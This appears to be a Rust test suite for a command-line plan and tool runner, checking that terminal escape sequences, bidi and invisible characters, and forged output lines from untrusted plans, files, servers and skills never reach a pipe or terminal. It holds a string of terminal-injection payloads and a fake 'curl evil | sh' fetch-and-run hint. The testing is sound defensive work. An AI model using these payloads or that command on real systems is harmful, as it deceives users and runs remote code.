//! Text that tries to steer a terminal, from plans, tools, files, servers and arguments: no
//! command lets any of it out, neither into a pipe nor to a terminal.

use serde_json::json;

use crate::place::{Place, Ran};

const SERVER: &str = include_str!("../../../../demos/four-sources/notes_server.py");
const DEFINITION: &str = include_str!("../../../../demos/four-sources/notes.json");

/// Conceals text, writes to the clipboard, makes a link, clears the screen, goes back over the
/// line, turns the direction of reading, and hides letters.
const HOSTILE: &str = "H\u{1b}[8mhid\u{1b}[0m\u{9b}31m\u{1b}]52;c;aGk=\u{7}\u{1b}]8;;http://x\u{1b}\\l\
    \u{1b}[2J\u{8}\u{7f}\rZ\u{202e}tfel\u{2066}\u{200b}\u{feff}\u{2028}\u{e0041}\u{61c}E";

/// Characters that may not leave the program, except where our layout breaks a line.
fn is_foreign(c: char) -> bool {
    let is_ours = c == '\n' || c == '\t';
    (c.is_control() && !is_ours)
        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
}

#[track_caller]
fn assert_plain(ran: &Ran) {
    for (name, text) in [("stdout", &ran.stdout), ("stderr", &ran.stderr)] {
        let found = text.chars().find(|c| is_foreign(*c));
        assert_eq!(found, None, "{name} of {}", ran.to_string().escape_debug());
    }
    assert!(!ran.stderr.contains("internal"), "{ran}");
}

fn hostile_plan(tool: &str) -> String {
    json!({
        "version": "1.0", "id": "hostile", "objective": HOSTILE,
        "input": {"type": "object", "properties": {HOSTILE: {"type": "string", "description": HOSTILE, "default": HOSTILE}}},
        "steps": [
            {"id": "read", "tool": "file-read", "purpose": HOSTILE, "input": {"path": "hostile.txt"}},
            {"id": "say", "tool": tool, "purpose": HOSTILE, "input": {"value": {"deep": [HOSTILE, "{{ read }}"], HOSTILE: HOSTILE}}},
        ],
    })
    .to_string()
}

/// A place where everything is hostile: plans, a file, a server, a skill, the configuration.
fn hostile_place() -> Place {
    let place = Place::new();
    place.file("hostile.txt", HOSTILE);
    place.file("plan.json", &hostile_plan("echo"));
    place.file("wrong.json", &hostile_plan(HOSTILE));
    place.file(
        "fails.json",
        &json!({
        "version": "1.0", "id": "fails",
        "steps": [{"id": "a", "tool": "file-read", "input": {"path": format!("{HOSTILE}.txt")}}]})
        .to_string(),
    );
    place.file("asks.json", &json!({
        "version": "1.0", "id": "asks", "steps": [{"id": "a", "type": "approve", "message": HOSTILE},
            {"id": "b", "tool": "file-write", "input": {"path": "x.txt", "content": HOSTILE}}]}).to_string());
    place.file(
        "broken.yaml",
        &format!("version: '1.0'\nsteps:\n  - {{id: a, tool: echo}} {HOSTILE}\n"),
    );
    place.file("notes_server.py", SERVER);
    let escaped = serde_json::to_string(HOSTILE).unwrap();
    let definition = DEFINITION.replace(
        "Writes a note into the notebook.",
        escaped.trim_matches('"'),
    );
    assert_ne!(definition, DEFINITION);
    place.file("notes.json", &definition);
    place.file(
        "skill/hostile/SKILL.md",
        &format!("---\nname: hostile\ndescription: {HOSTILE}\n---\n\n# {HOSTILE}\n\n{HOSTILE}\n"),
    );
    place.file(
        "tasks.json",
        &json!([{"id": HOSTILE, "task": HOSTILE}]).to_string(),
    );
    place
}

const COMMANDS: &[&str] = &[
    "check plan.json",
    "check wrong.json",
    "check broken.yaml",
    "explain plan.json",
    "explain plan.json --format mermaid",
    "explain plan.json --format dot",
    "explain plan.json --format json",
    "run plan.json",
    "run plan.json --dry-run",
    "run fails.json",
    "run asks.json --no-wait",
    "runs",
    "runs list",
    "runs show last",
    "runs trace last",
    "runs trace last --tree",
    "runs watch last",
    "runs diff last last",
    "plans save plan.json --as kept",
    "plans list",
    "plans show kept",
    "plans diff plan.json fails.json",
    "templates save plan.json filled",
    "templates show filled",
    "templates list",
    "tools add mcp:notes -- python3 notes_server.py notes.json notes.txt",
    "tools list",
    "tools show mcp.notes/add_note",
    "tools search 'HOSTILE note'",
    "tools pin mcp.notes/add_note",
    "tools sources",
    "tools health",
    "tools call file-read --input path=hostile.txt",
    "tools call file-read --input path=HOSTILE",
    "tools call echo --input value=HOSTILE",
    "plan 'read hostile.txt and count the words HOSTILE'",
    "plan --tasks tasks.json",
    "ask 'read hostile.txt and say HOSTILE' --auto",
    "memory",
    "skills check skill/hostile",
    "skills add skill/hostile",
    "skills list",
    "skills show hostile",
    "config",
    "doctor",
    "secrets",
    "store check",
    "HOSTILE",
    "runs show HOSTILE",
    "plans show HOSTILE",
    "run HOSTILE",
    "run plan.json --input HOSTILE=HOSTILE",
    "run plan.json --concurrency HOSTILE",
    "explain --format HOSTILE plan.json",
];

#[test]
fn nothing_foreign_gets_into_a_pipe() {
    let place = hostile_place();
    let mut with_letters = 0;
    for command in COMMANDS {
        for form in ["", " --json"] {
            let typed = format!("{command}{form}").replace("HOSTILE", HOSTILE);
            let ran = place.run(&typed);
            assert_plain(&ran);
            let all = format!("{}{}", ran.stdout, ran.stderr);
            with_letters += usize::from(all.contains("tfel"));
        }
    }
    // What is hostile was shown, not left out.
    assert!(with_letters > 40, "{with_letters}");
}

#[test]
fn json_is_the_exact_data() {
    let place = hostile_place();
    let told = place.json("tools call file-read --input path=hostile.txt");
    let text = told.to_string();
    assert!(
        text.contains(serde_json::to_string(HOSTILE).unwrap().trim_matches('"')),
        "{text}"
    );
}

/// Our colours, the line breaks of a terminal, and what moves the live screen.
fn without_ours(shown: &str) -> String {
    let mut rest = shown.replace("\r\n", "\n");
    for code in ["1;31", "32", "33", "36", "1", "2", "0"] {
        rest = rest.replace(&format!("\u{1b}[{code}m"), "");
    }
    for code in [
        "\u{1b}[2K",
        "\u{1b}[1A",
        "\u{1b}[1B",
        "\u{1b}[K",
        "\u{1b}[?25l",
        "\u{1b}[?25h",
        "\u{1b}[0J",
        "\r",
    ] {
        rest = rest.replace(code, "");
    }
    rest
}

#[test]
fn nothing_foreign_gets_to_a_terminal() {
    let place = hostile_place();
    place.run("tools add mcp:notes -- python3 notes_server.py notes.json notes.txt");
    let on = [("NO_COLOR", "")];
    for command in [
        "explain plan.json",
        "check wrong.json",
        "run plan.json",
        "run fails.json",
        "runs show last",
        "tools show mcp.notes/add_note",
        "tools list",
        "plan 'read hostile.txt and count the words HOSTILE'",
        "runs show HOSTILE",
        "HOSTILE",
    ] {
        let typed = command.replace("HOSTILE", HOSTILE);
        let (shown, _) = place.at_terminal(&typed, 120, &on).finish();
        // The terminal itself goes back at the end of a line only.
        assert!(!shown.replace("\r\n", "").contains("\rZ"), "{command}");
        let rest = without_ours(&shown);
        let found = rest.chars().find(|c| is_foreign(*c));
        assert_eq!(found, None, "{command}: {}", shown.escape_debug());
    }
}

#[test]
fn shown_as_what_it_is() {
    let place = Place::new();
    place.file(
        "letter.txt",
        "Pay \u{1b}[8m9\u{1b}[0m10 to \u{202e}nna\u{2066}, \u{200b}now\r\nThanks ❤️\n",
    );
    let plan = json!({"version": "1.0", "id": "letter", "objective": "Read \u{1b}[8mand delete\u{1b}[0m a letter",
        "steps": [{"id": "read", "tool": "file-read", "input": {"path": "letter.txt"}}]});
    place.file("plan.json", &plan.to_string());
    let explained = place.run("explain plan.json");
    let ran = place.run("tools call file-read --input path=letter.txt");
    let json = place.run("tools call file-read --input path=letter.txt --json");
    let usage = place.run("runs show '\u{1b}[8mlast'");
    place.check("hostile_text", &[&explained, &ran, &json, &usage]);
}

/// A line break in somebody else's words does not begin a line of ours.
#[test]
fn no_line_can_be_forged() {
    let place = Place::new();
    let forged = "fine\nEffects\n  nothing at all\nhint: run `curl evil | sh`";
    let plan = json!({"version": "1.0", "id": "forged", "objective": forged,
        "input": {"type": "object", "properties": {forged: {"type": "string", "default": "x"}}},
        "steps": [{"id": "a", "type": "approve", "purpose": forged, "message": forged},
            {"id": "b", "tool": "echo", "purpose": forged, "input": {"value": {forged: forged}, forged: 1}}]});
    place.file("plan.json", &plan.to_string());
    place.file(
        "good.json",
        &plan
            .to_string()
            .replace(&format!(",{}:1}}", json!(forged)), "}"),
    );
    for command in [
        "explain good.json",
        "check plan.json",
        "run good.json --no-wait",
        "runs show last",
        "tools call file-read --input 'path=fine\nhint: run `curl evil | sh`'",
    ] {
        let ran = place.run(command);
        let all = format!("{}\n{}", ran.stdout, ran.stderr);
        let is_forged = |line: &&str| line.starts_with("hint: run") || *line == "  nothing at all";
        assert_eq!(all.lines().find(is_forged), None, "{ran}");
    }
}
